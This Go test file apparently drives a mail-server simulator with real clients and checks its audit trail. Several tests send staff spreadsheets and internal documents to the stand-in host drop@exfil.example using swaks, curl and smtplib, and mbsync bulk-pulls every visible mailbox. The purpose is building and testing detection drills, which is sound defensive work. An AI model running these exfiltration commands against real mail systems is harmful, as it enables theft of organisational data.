package mailsim_test

// Real-client interoperability: the mail clients and tools that staff,
// administrators and attackers actually run (Python's imaplib and smtplib,
// curl, swaks, mbsync) drive mailsim over TCP, and each test checks both the
// client's own output and the audit trail it left.
//
// The tests need outside programs, so they run only with
// MAILDRILL_REAL_CLIENTS=1 (CI sets it after installing them, see .ci/run).
// With the switch on, a missing program is a failure, never a skip.

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/emersion/go-imap/v2"
	"github.com/emersion/go-imap/v2/imapclient"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/maildrill/maildrill/mailsim"
	"github.com/maildrill/maildrill/mailsim/account"
	"github.com/maildrill/maildrill/mailsim/audit"
	"github.com/maildrill/maildrill/mailsim/mailsimtest"
)

const exfilRcpt = "drop@exfil.example"

// realClients skips the test unless MAILDRILL_REAL_CLIENTS=1, and then
// returns the path of each tool, failing the test for a missing one.
func realClients(t *testing.T, tools ...string) map[string]string {
	t.Helper()
	if os.Getenv("MAILDRILL_REAL_CLIENTS") != "1" {
		t.Skip("set MAILDRILL_REAL_CLIENTS=1 and install curl swaks isync python3 (see .ci/run)")
	}
	paths := map[string]string{}
	for _, tool := range tools {
		p, err := exec.LookPath(tool)
		if err != nil {
			t.Fatalf("MAILDRILL_REAL_CLIENTS=1 but %s is not installed: %v (Debian: apt-get install -y curl swaks isync python3)", tool, err)
		}
		paths[tool] = p
	}
	return paths
}

// run runs a client program with a deadline and returns its stdout; it
// fails the test, with both outputs, when the program fails.
func run(t *testing.T, name string, args ...string) string {
	t.Helper()
	out, errOut, err := runErr(name, args...)
	require.NoError(t, err, "%s %s\nstdout:\n%s\nstderr:\n%s", name, strings.Join(args, " "), out, errOut)
	return out
}

func runErr(name string, args ...string) (stdout, stderr string, err error) {
	ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
	defer cancel()
	cmd := exec.CommandContext(ctx, name, args...)
	var o, e bytes.Buffer
	cmd.Stdout, cmd.Stderr = &o, &e
	err = cmd.Run()
	return o.String(), e.String(), err
}

func hostPort(t *testing.T, addr string) (string, string) {
	t.Helper()
	h, p, err := net.SplitHostPort(addr)
	require.NoError(t, err)
	return h, p
}

func writeFile(t *testing.T, dir, name, content string) string {
	t.Helper()
	p := filepath.Join(dir, name)
	require.NoError(t, os.WriteFile(p, []byte(content), 0o600))
	return p
}

// filterEvents keeps the events of one action.
func filterEvents(evs []*audit.Event, action string) []*audit.Event {
	var out []*audit.Event
	for _, e := range evs {
		if e.Action == action {
			out = append(out, e)
		}
	}
	return out
}

// oracleName is the ID the tests' own go-imap client sends, so that its
// sessions can be told apart from the client's under test.
const oracleName = "maildrill-test-oracle"

// sessionEvents keeps the events of the sessions in which user logged in on
// service ("imap", "imaps", "submission"), leaving out the oracle's.
func sessionEvents(evs []*audit.Event, user, service string) []*audit.Event {
	sessions := map[string]bool{}
	for _, e := range evs {
		if (e.Action == audit.IMAPLogin || e.Action == audit.SMTPAuth) && e.UserName == user && e.ServiceName == service && e.ClientName != oracleName {
			sessions[e.SessionID] = true
		}
	}
	var out []*audit.Event
	for _, e := range evs {
		if sessions[e.SessionID] {
			out = append(out, e)
		}
	}
	return out
}

// goClient logs in with go-imap, to look at the server's state independently
// of the client under test.
func goClient(t *testing.T, ms *mailsimtest.Server, acc account.Account) *imapclient.Client {
	t.Helper()
	c, err := imapclient.DialTLS(ms.IMAPSAddr, &imapclient.Options{TLSConfig: ms.Certs.ClientConfig("127.0.0.1")})
	require.NoError(t, err)
	t.Cleanup(func() { c.Close() })
	_, err = c.ID(&imap.IDData{Name: oracleName}).Wait()
	require.NoError(t, err)
	require.NoError(t, c.Login(acc.Address, acc.Password).Wait())
	return c
}

func flagsOf(t *testing.T, c *imapclient.Client, mailbox string, uid uint32) []imap.Flag {
	t.Helper()
	_, err := c.Select(mailbox, &imap.SelectOptions{ReadOnly: true}).Wait()
	require.NoError(t, err)
	msgs, err := c.Fetch(imap.UIDSetNum(imap.UID(uid)), &imap.FetchOptions{Flags: true, UID: true}).Collect()
	require.NoError(t, err)
	require.Len(t, msgs, 1)
	return msgs[0].Flags
}

const pyIMAP = `
import imaplib, json, re, ssl, sys

host, port, cafile, user, password = sys.argv[1:6]
out = {}
imaplib.Commands.setdefault('ID', ('NONAUTH', 'AUTH', 'SELECTED'))
ctx = ssl.create_default_context(cafile=cafile)
m = imaplib.IMAP4_SSL(host, int(port), ssl_context=ctx)
out['capabilities'] = list(m.capabilities)
# ID before login, as Thunderbird and many libraries do.
typ, dat = m._simple_command('ID', '("name" "pytest-imaplib" "version" "1.0")')
typ, dat = m._untagged_response(typ, dat, 'ID')
out['id'] = [typ, [d.decode() if isinstance(d, bytes) else d for d in dat if d is not None]]
typ, _ = m.login(user, password)
out['login'] = typ
typ, dat = m.select('INBOX', readonly=True)   # EXAMINE
out['examine'] = [typ, int(dat[0])]
typ, dat = m.uid('FETCH', '1:*', '(FLAGS BODYSTRUCTURE)')
assert typ == 'OK', (typ, dat)
target = None
for d in dat:
    line = d[0] if isinstance(d, tuple) else d
    if not isinstance(line, bytes):
        continue
    line = line.decode(errors='replace')
    uid = re.search(r'UID (\d+)', line)
    flags = re.search(r'FLAGS \(([^)]*)\)', line)
    if uid is None or flags is None:
        continue
    # multipart whose second part is declared an attachment
    if 'BODYSTRUCTURE ((' in line and re.search(r'"attachment" \("filename"', line, re.I):
        cand = {'uid': int(uid.group(1)), 'flags': flags.group(1).split(), 'bodystructure': line}
        if target is None or ('\\Seen' in target['flags'] and '\\Seen' not in cand['flags']):
            target = cand
out['target'] = target
if target:
    typ, dat = m.uid('FETCH', str(target['uid']), '(BODY.PEEK[2])')
    assert typ == 'OK', (typ, dat)
    part = dat[0][1]
    out['part_bytes'] = len(part)
    # A non-PEEK fetch in an EXAMINEd mailbox must not set \Seen either.
    typ, dat = m.uid('FETCH', str(target['uid']), '(BODY[1])')
    out['body1'] = typ
    typ, dat = m.uid('FETCH', str(target['uid']), '(FLAGS)')
    out['flags_after'] = re.search(r'FLAGS \(([^)]*)\)', dat[0].decode()).group(1).split()
m.close()
m.logout()
print(json.dumps(out))
`

// TestRealClientPythonIMAPLib: imaplib over implicit TLS, ID before LOGIN,
// EXAMINE, BODYSTRUCTURE, then an attachment part with BODY.PEEK[2].
func TestRealClientPythonIMAPLib(t *testing.T) {
	bin := realClients(t, "python3")
	ms := mailsimtest.New(t, mailsim.Config{})
	acc := ms.Person("")
	host, port := hostPort(t, ms.IMAPSAddr)
	script := writeFile(t, t.TempDir(), "imap.py", pyIMAP)
	out := run(t, bin["python3"], script, host, port, ms.Certs.CAFile, acc.Address, acc.Password)

	var res struct {
		Capabilities []string `json:"capabilities"`
		ID           []any    `json:"id"`
		Login        string   `json:"login"`
		Examine      []any    `json:"examine"`
		Target       *struct {
			UID   uint32   `json:"uid"`
			Flags []string `json:"flags"`
		} `json:"target"`
		PartBytes  int      `json:"part_bytes"`
		Body1      string   `json:"body1"`
		FlagsAfter []string `json:"flags_after"`
	}
	require.NoError(t, json.Unmarshal([]byte(out), &res), "python output: %s", out)
	assert.Contains(t, res.Capabilities, "ID")
	require.Len(t, res.ID, 2)
	assert.Equal(t, "OK", res.ID[0])
	assert.Contains(t, fmt.Sprint(res.ID[1]), `"name" "maildrill-mailsim"`)
	assert.Equal(t, "OK", res.Login)
	assert.Equal(t, "OK", res.Examine[0])
	require.NotNil(t, res.Target, "no INBOX message with an attachment found by BODYSTRUCTURE: %s", out)
	assert.Positive(t, res.PartBytes)
	assert.Equal(t, "OK", res.Body1)
	assert.ElementsMatch(t, res.Target.Flags, res.FlagsAfter, "EXAMINE session changed the flags")

	// The server agrees that nothing was marked \Seen.
	c := goClient(t, ms, acc)
	var now []string
	for _, f := range flagsOf(t, c, "INBOX", res.Target.UID) {
		now = append(now, string(f))
	}
	assert.ElementsMatch(t, res.Target.Flags, now)

	evs := sessionEvents(ms.Events(), acc.Address, "imaps")
	ids := filterEvents(evs, audit.IMAPID)
	require.Len(t, ids, 1)
	assert.Equal(t, "pytest-imaplib", ids[0].ClientName)
	assert.Equal(t, "1.0", ids[0].ClientVersion)
	assert.Empty(t, ids[0].UserName, "ID came before login")
	logins := filterEvents(evs, audit.IMAPLogin)
	require.Len(t, logins, 1)
	assert.Equal(t, audit.Success, logins[0].Outcome)
	assert.Equal(t, "pytest-imaplib", logins[0].ClientName, "client name carried by later events")
	assert.True(t, logins[0].TLS)
	ex := filterEvents(evs, audit.IMAPExamine)
	require.Len(t, ex, 1)
	assert.Equal(t, "INBOX", ex[0].Mailbox)
	assert.Equal(t, acc.Address, ex[0].MailboxOwner)
	var partFetch *audit.Event
	for _, e := range filterEvents(evs, audit.IMAPFetch) {
		assert.Equal(t, acc.Address, e.UserName)
		require.NotNil(t, e.ReadOnly, "fetch in an EXAMINEd mailbox: imap.readonly")
		assert.True(t, *e.ReadOnly)
		if e.MessageUID == res.Target.UID && strings.Contains(e.FetchItems, "BODY.PEEK[2]") {
			partFetch = e
		}
	}
	require.NotNil(t, partFetch, "no imap.fetch event for UID %d BODY.PEEK[2]", res.Target.UID)
	assert.NotEmpty(t, partFetch.FileName)
	assert.NotEmpty(t, partFetch.FileSHA256)
	assert.Positive(t, partFetch.FileSize)
	assert.Equal(t, int64(res.PartBytes), partFetch.BytesOut)
	assert.Len(t, filterEvents(evs, audit.IMAPStore), 0, "EXAMINE session must not store flags")
	assert.Len(t, filterEvents(evs, audit.IMAPLogout), 1)
}

const pyIMAPCondstore = `
import imaplib, json, ssl, sys

host, port, cafile, user, password = sys.argv[1:6]
imaplib.Commands.setdefault('ENABLE', ('AUTH', 'SELECTED'))
out = {}
ctx = ssl.create_default_context(cafile=cafile)
m = imaplib.IMAP4_SSL(host, int(port), ssl_context=ctx)
m.login(user, password)
typ, dat = m.capability()
out['caps'] = dat[0].decode().split()
typ, dat = m._simple_command('ENABLE', 'CONDSTORE')
out['enabled'] = [d.decode() for d in m.untagged_responses.pop('ENABLED', [])]
typ, dat = m.select('INBOX')
out['highestmodseq'] = int(m.untagged_responses.pop('HIGHESTMODSEQ')[0])
typ, dat = m.store('1', '+FLAGS', '(\\Flagged)')
out['store'] = [d.decode() for d in dat]
typ, dat = m.fetch('1:*', '(FLAGS) (CHANGEDSINCE 1)')
out['changed'] = [d.decode() for d in dat]
typ, dat = m._simple_command('STORE', '1:2', '(UNCHANGEDSINCE 1)', '+FLAGS', '($Checked)')
out['conditional'] = [typ, [d.decode() for d in dat]]
typ, dat = m.search(None, 'MODSEQ', '2')
out['search'] = [d.decode() for d in dat]
m.logout()
print(json.dumps(out))
`

// TestRealClientPythonIMAPLibCondstore: imaplib, which knows nothing of
// CONDSTORE (RFC 7162), sends its commands as raw arguments and reads the
// answers: HIGHESTMODSEQ, MODSEQ in FETCH, CHANGEDSINCE, MODIFIED, SEARCH
// MODSEQ.
func TestRealClientPythonIMAPLibCondstore(t *testing.T) {
	bin := realClients(t, "python3")
	ms := mailsimtest.New(t, mailsim.Config{})
	acc := ms.Person("")
	host, port := hostPort(t, ms.IMAPSAddr)
	script := writeFile(t, t.TempDir(), "condstore.py", pyIMAPCondstore)
	out := run(t, bin["python3"], script, host, port, ms.Certs.CAFile, acc.Address, acc.Password)

	var res struct {
		Caps          []string `json:"caps"`
		Enabled       []string `json:"enabled"`
		HighestModSeq uint64   `json:"highestmodseq"`
		Store         []string `json:"store"`
		Changed       []string `json:"changed"`
		Conditional   []any    `json:"conditional"`
		Search        []string `json:"search"`
	}
	require.NoError(t, json.Unmarshal([]byte(out), &res), "python output: %s", out)
	assert.Contains(t, res.Caps, "CONDSTORE")
	assert.Equal(t, []string{"CONDSTORE"}, res.Enabled)
	assert.Equal(t, uint64(1), res.HighestModSeq, "a mailbox as the corpus made it")
	require.Len(t, res.Store, 1)
	assert.Contains(t, res.Store[0], "MODSEQ (2)")
	require.Len(t, res.Changed, 1, "only message 1 changed since 1: %q", res.Changed)
	assert.Contains(t, res.Changed[0], "MODSEQ (2)")
	assert.Equal(t, "OK", res.Conditional[0])
	assert.Contains(t, fmt.Sprint(res.Conditional[1]), "[MODIFIED 1]")
	assert.Equal(t, []string{"1 2 (MODSEQ 3)"}, res.Search, "message 2 was stored to at 3, message 1 at 2")

	stores := filterEvents(sessionEvents(ms.Events(), acc.Address, "imaps"), audit.IMAPStore)
	require.Len(t, stores, 3, "the STORE, then the conditional STORE's two messages")
	assert.Equal(t, uint64(2), stores[0].ModSeq)
	assert.Equal(t, "modified", stores[1].Reason)
	assert.Equal(t, uint64(3), stores[2].ModSeq)
}

const pySMTP = `
import smtplib, ssl, sys
from email.message import EmailMessage

host, port, cafile, user, password, rcpt = sys.argv[1:7]
msg = EmailMessage()
msg['From'] = user
msg['To'] = rcpt
msg['Subject'] = 'smtplib export'
msg.set_content('Voir piece jointe.')
msg.add_attachment(b'nom;prenom;grade\nDupont;Jean;brigadier\n' * 200,
                   maintype='text', subtype='csv', filename='effectifs_2025.csv')
ctx = ssl.create_default_context(cafile=cafile)
with smtplib.SMTP(host, int(port), local_hostname='ws-pytest.interieur.test', timeout=30) as s:
    s.ehlo()
    s.starttls(context=ctx)
    s.ehlo()
    s.login(user, password)
    refused = s.send_message(msg)
    print('refused=%r' % (refused,))
`

// TestRealClientPythonSMTPLib: smtplib on the submission port, STARTTLS,
// AUTH, a CSV attachment to an outside address.
func TestRealClientPythonSMTPLib(t *testing.T) {
	bin := realClients(t, "python3")
	ms := mailsimtest.New(t, mailsim.Config{})
	acc := ms.Person("")
	host, port := hostPort(t, ms.SubmissionAddr)
	script := writeFile(t, t.TempDir(), "smtp.py", pySMTP)
	out := run(t, bin["python3"], script, host, port, ms.Certs.CAFile, acc.Address, acc.Password, exfilRcpt)
	assert.Contains(t, out, "refused={}")

	evs := sessionEvents(ms.Events(), acc.Address, "submission")
	checkSMTPSession(t, evs, acc.Address, "smtplib export", []string{"effectifs_2025.csv"})
	assert.Equal(t, "ws-pytest.interieur.test", filterEvents(evs, audit.SMTPAuth)[0].SMTPHelo)
	checkOutbox(t, ms, acc.Address, "smtplib export", []string{"effectifs_2025.csv"})
}

// checkSMTPSession checks a successful authenticated submission over
// STARTTLS to exfilRcpt.
func checkSMTPSession(t *testing.T, evs []*audit.Event, user, subject string, attachments []string) {
	t.Helper()
	require.NotEmpty(t, evs, "no submission session of %s in the audit trail", user)
	counts := map[string]int{}
	for _, e := range evs {
		counts[e.Action]++
		assert.Equal(t, "smtp", e.ServiceType)
		assert.Equal(t, "submission", e.ServiceName)
	}
	assert.Equal(t, 1, counts[audit.SMTPConnect], "%v", counts)
	assert.Equal(t, 1, counts[audit.SMTPStartTLS], "%v", counts)
	assert.Equal(t, 1, counts[audit.SMTPAuth], "%v", counts)
	assert.Equal(t, 1, counts[audit.SMTPMailFrom], "%v", counts)
	assert.Equal(t, 1, counts[audit.SMTPRcpt], "%v", counts)
	assert.Equal(t, 1, counts[audit.SMTPData], "%v", counts)
	assert.Equal(t, 1, counts[audit.SMTPDeliver], "%v", counts)
	assert.Equal(t, 1, counts[audit.SMTPDisconnect], "%v", counts)
	auth := filterEvents(evs, audit.SMTPAuth)[0]
	assert.Equal(t, audit.Success, auth.Outcome)
	assert.True(t, auth.TLS)
	require.NotNil(t, auth.AuthCleartext)
	assert.False(t, *auth.AuthCleartext)
	data := filterEvents(evs, audit.SMTPData)[0]
	assert.Equal(t, subject, data.MessageSubj)
	assert.Equal(t, attachments, data.AttachmentNames)
	assert.Equal(t, len(attachments), data.AttachmentCount)
	del := filterEvents(evs, audit.SMTPDeliver)[0]
	assert.Equal(t, audit.Success, del.Outcome)
	assert.Equal(t, exfilRcpt, del.SMTPRcptTo)
	assert.Equal(t, "exfil.example", del.DestDomain)
	assert.Equal(t, "outbound", del.EmailDirection)
	assert.Equal(t, user, del.UserName)
	assert.Equal(t, audit.SMTPDisconnect, evs[len(evs)-1].Action, "disconnect is the session's last event")
}

// checkOutbox checks the single captured outbound message.
func checkOutbox(t *testing.T, ms *mailsimtest.Server, user, subject string, attachments []string) {
	t.Helper()
	out := ms.Outbox.List()
	require.Len(t, out, 1)
	m := out[0]
	assert.Equal(t, user, m.User)
	assert.Equal(t, user, m.MailFrom)
	assert.Equal(t, []string{exfilRcpt}, m.RcptTo)
	assert.Equal(t, subject, m.Subject)
	assert.Equal(t, attachments, m.Attachments)
	assert.Equal(t, len(attachments), m.AttachmentCount)
}

// TestRealClientCurlIMAP: curl's imaps:// LIST, EXAMINE and FETCH of a
// message and of one of its parts.
func TestRealClientCurlIMAP(t *testing.T) {
	bin := realClients(t, "curl")
	ms := mailsimtest.New(t, mailsim.Config{})
	acc := ms.Person("")
	host, port := hostPort(t, ms.IMAPSAddr)
	base := "imaps://" + host + ":" + port
	curl := func(args ...string) string {
		t.Helper()
		return run(t, bin["curl"], append([]string{"--silent", "--show-error", "--max-time", "30",
			"--cacert", ms.Certs.CAFile, "--user", acc.Address + ":" + acc.Password}, args...)...)
	}

	// A message with an attachment, found with go-imap.
	c := goClient(t, ms, acc)
	_, err := c.Select("INBOX", &imap.SelectOptions{ReadOnly: true}).Wait()
	require.NoError(t, err)
	all, err := c.Fetch(imap.SeqSet{{Start: 1, Stop: 0}}, &imap.FetchOptions{UID: true, BodyStructure: &imap.FetchItemBodyStructure{Extended: true}}).Collect()
	require.NoError(t, err)
	var uid uint32
	var fileName string
	for _, m := range all {
		mp, ok := m.BodyStructure.(*imap.BodyStructureMultiPart)
		if !ok || len(mp.Children) < 2 {
			continue
		}
		if sp, ok := mp.Children[1].(*imap.BodyStructureSinglePart); ok && sp.Disposition() != nil && strings.EqualFold(sp.Disposition().Value, "attachment") {
			uid, fileName = uint32(m.UID), sp.Filename()
			break
		}
	}
	require.NotZero(t, uid, "no INBOX message whose second part is an attachment")
	c.Logout().Wait()

	list := curl(base + "/")
	assert.Regexp(t, `(?m)^\* LIST \([^)]*\) "/" "?INBOX"?\r?$`, list)
	assert.Contains(t, list, "Sent")

	examine := curl(base+"/INBOX", "-X", "EXAMINE INBOX")
	assert.Regexp(t, `\* \d+ EXISTS`, examine)

	msg := curl(fmt.Sprintf("%s/INBOX;UID=%d", base, uid))
	assert.Contains(t, msg, "Content-Disposition: attachment")
	part := curl(fmt.Sprintf("%s/INBOX;UID=%d;SECTION=2", base, uid))
	assert.NotEmpty(t, part)
	assert.Less(t, len(part), len(msg))

	evs := sessionEvents(ms.Events(), acc.Address, "imaps")
	assert.NotEmpty(t, filterEvents(evs, audit.IMAPList))
	assert.Len(t, filterEvents(evs, audit.IMAPExamine), 1)
	sel := filterEvents(evs, audit.IMAPSelect)
	require.GreaterOrEqual(t, len(sel), 2, "curl SELECTs the mailbox for each URL with a UID")
	var whole, sect []*audit.Event
	for _, e := range filterEvents(evs, audit.IMAPFetch) {
		if e.MessageUID != uid {
			continue
		}
		switch {
		case strings.Contains(e.FetchItems, "[2]"):
			sect = append(sect, e)
		case strings.Contains(e.FetchItems, "[]"):
			whole = append(whole, e)
		}
	}
	require.NotEmpty(t, whole, "fetch of the whole message")
	require.Len(t, sect, 1, "fetch of section 2")
	var names []string
	for _, e := range whole {
		names = append(names, e.FileName)
	}
	assert.Contains(t, names, fileName)
	assert.Equal(t, fileName, sect[0].FileName)
	assert.Equal(t, int64(len(part)), sect[0].BytesOut)
	for _, e := range filterEvents(evs, audit.IMAPLogin) {
		assert.Equal(t, audit.Success, e.Outcome)
		assert.Equal(t, acc.Address, e.UserName)
	}
}

// TestRealClientCurlSMTP: curl's smtp:// upload with --ssl-reqd (STARTTLS).
func TestRealClientCurlSMTP(t *testing.T) {
	bin := realClients(t, "curl")
	ms := mailsimtest.New(t, mailsim.Config{})
	acc := ms.Person("")
	host, port := hostPort(t, ms.SubmissionAddr)
	eml := "From: " + acc.Address + "\r\nTo: " + exfilRcpt + "\r\nSubject: curl upload\r\nMIME-Version: 1.0\r\n" +
		"Content-Type: multipart/mixed; boundary=B\r\n\r\n--B\r\nContent-Type: text/plain\r\n\r\nci-joint\r\n" +
		"--B\r\nContent-Type: application/pdf; name=\"note_prefet.pdf\"\r\nContent-Disposition: attachment; filename=\"note_prefet.pdf\"\r\n" +
		"Content-Transfer-Encoding: base64\r\n\r\nJVBERi0xLjQKJcTl8uXrp/Og0MTGCg==\r\n--B--\r\n"
	file := writeFile(t, t.TempDir(), "msg.eml", eml)
	run(t, bin["curl"], "--silent", "--show-error", "--max-time", "30",
		"--url", "smtp://"+host+":"+port, "--ssl-reqd", "--cacert", ms.Certs.CAFile,
		"--user", acc.Address+":"+acc.Password,
		"--mail-from", acc.Address, "--mail-rcpt", exfilRcpt, "--upload-file", file)

	evs := sessionEvents(ms.Events(), acc.Address, "submission")
	checkSMTPSession(t, evs, acc.Address, "curl upload", []string{"note_prefet.pdf"})
	checkOutbox(t, ms, acc.Address, "curl upload", []string{"note_prefet.pdf"})
}

// TestRealClientSwaks: swaks with AUTH LOGIN and AUTH PLAIN over STARTTLS,
// verifying the certificate against mailsim's CA, with an attachment.
func TestRealClientSwaks(t *testing.T) {
	bin := realClients(t, "swaks")
	for _, mech := range []string{"LOGIN", "PLAIN"} {
		t.Run(mech, func(t *testing.T) {
			ms := mailsimtest.New(t, mailsim.Config{})
			acc := ms.Person("")
			host, port := hostPort(t, ms.SubmissionAddr)
			att := writeFile(t, t.TempDir(), "organigramme.docx", "PK\x03\x04 fake document")
			out := run(t, bin["swaks"], "--server", host, "--port", port,
				"--ehlo", "kali.exfil.example",
				"--from", acc.Address, "--to", exfilRcpt,
				"--tls", "--tls-verify", "--tls-ca-path", ms.Certs.CAFile,
				"--auth", mech, "--auth-user", acc.Address, "--auth-password", acc.Password,
				"--header", "Subject: swaks "+mech,
				"--attach", "@"+att, "--timeout", "20")
			assert.Contains(t, out, "235 ")
			assert.Contains(t, out, "250 ")

			evs := sessionEvents(ms.Events(), acc.Address, "submission")
			checkSMTPSession(t, evs, acc.Address, "swaks "+mech, []string{"organigramme.docx"})
			auth := filterEvents(evs, audit.SMTPAuth)[0]
			assert.Equal(t, mech, auth.AuthMechanism)
			assert.Equal(t, "kali.exfil.example", auth.SMTPHelo)
			checkOutbox(t, ms, acc.Address, "swaks "+mech, []string{"organigramme.docx"})
		})
	}
}

// TestRealClientMbsync: isync's mbsync pulls every mailbox the user can see
// into a local Maildir: the "full-mailbox sync" behaviour.
func TestRealClientMbsync(t *testing.T) {
	bin := realClients(t, "mbsync")
	// Fewer messages than the default: the person's delegated and shared
	// mailboxes are pulled too, attachments included.
	ms := mailsimtest.New(t, mailsim.Config{MessagesPerUser: 15})
	acc := ms.Person("")
	_, port := hostPort(t, ms.IMAPSAddr)
	// isync 1.4 matches the certificate against DNS names only, not IP
	// addresses: connect by name (the certificate names localhost).
	host := "localhost"
	dir := t.TempDir()
	local := filepath.Join(dir, "mail")
	require.NoError(t, os.MkdirAll(local, 0o700))

	// isync up to 1.4 (Debian 12) spells the TLS option SSLType; 1.5
	// renamed it TLSType.
	ver, _, _ := runErr(bin["mbsync"], "--version") // "isync 1.4.4"
	tlsKey := "TLSType"
	if v := strings.TrimSpace(strings.TrimPrefix(strings.TrimSpace(ver), "isync")); strings.HasPrefix(v, "1.") && len(v) >= 3 && v[2] < '5' && (len(v) == 3 || v[3] == '.') {
		tlsKey = "SSLType"
	}
	rc := fmt.Sprintf(`IMAPAccount mailsim
Host %s
Port %s
User %s
Pass %s
%s IMAPS
CertificateFile %s
PipelineDepth 8

IMAPStore remote
Account mailsim

MaildirStore local
Path %s/
Inbox %s/INBOX
SubFolders Verbatim

Channel pull
Far :remote:
Near :local:
Patterns *
Sync Pull
Create Near
Expunge None
SyncState *
`, host, port, acc.Address, acc.Password, tlsKey, ms.Certs.CAFile, local, local)
	rcFile := writeFile(t, dir, "mbsyncrc", rc)
	out, errOut, err := runErr(bin["mbsync"], "-c", rcFile, "-a")
	require.NoError(t, err, "mbsync %s\nstdout:\n%s\nstderr:\n%s", ver, out, errOut)

	// Server side: every mailbox the user sees, and its message count.
	c := goClient(t, ms, acc)
	boxes, err := c.List("", "*", nil).Collect()
	require.NoError(t, err)
	want := map[string]uint32{}
	for _, b := range boxes {
		if hasAttr(b.Attrs, imap.MailboxAttrNoSelect) {
			continue
		}
		st, err := c.Status(b.Mailbox, &imap.StatusOptions{NumMessages: true}).Wait()
		require.NoError(t, err)
		want[b.Mailbox] = *st.NumMessages
	}
	require.Contains(t, want, "INBOX")

	// Client side: a Maildir per mailbox with as many messages.
	var total uint32
	for name, n := range want {
		d := filepath.Join(local, filepath.FromSlash(name))
		got := countMaildir(t, d)
		assert.Equal(t, int(n), got, "mailbox %q: %d on the server, %d in %s", name, n, got, d)
		total += n
	}
	require.Positive(t, total)

	evs := sessionEvents(ms.Events(), acc.Address, "imaps")
	logins := filterEvents(evs, audit.IMAPLogin)
	require.NotEmpty(t, logins)
	for _, e := range logins {
		assert.Equal(t, audit.Success, e.Outcome)
	}
	fetched := map[string]map[uint32]bool{}
	for _, e := range filterEvents(evs, audit.IMAPFetch) {
		if !strings.Contains(e.FetchItems, "BODY.PEEK[]") {
			continue
		}
		if fetched[e.Mailbox] == nil {
			fetched[e.Mailbox] = map[uint32]bool{}
		}
		fetched[e.Mailbox][e.MessageUID] = true
	}
	for name, n := range want {
		assert.Equal(t, int(n), len(fetched[name]), "mailbox %q: whole-message fetches in the audit trail", name)
	}
	var withFiles int
	for _, e := range filterEvents(evs, audit.IMAPFetch) {
		if e.FileName != "" {
			withFiles++
		}
	}
	assert.Positive(t, withFiles, "attachments pulled by the sync are named in the audit trail")
	assert.Empty(t, filterEvents(evs, audit.IMAPStore), "a pull-only sync changes no flags")
}

func hasAttr(attrs []imap.MailboxAttr, a imap.MailboxAttr) bool {
	for _, x := range attrs {
		if strings.EqualFold(string(x), string(a)) {
			return true
		}
	}
	return false
}

func countMaildir(t *testing.T, dir string) int {
	t.Helper()
	n := 0
	for _, sub := range []string{"cur", "new"} {
		ents, err := os.ReadDir(filepath.Join(dir, sub))
		if os.IsNotExist(err) {
			continue
		}
		require.NoError(t, err)
		for _, e := range ents {
			if !e.IsDir() {
				n++
			}
		}
	}
	return n
}
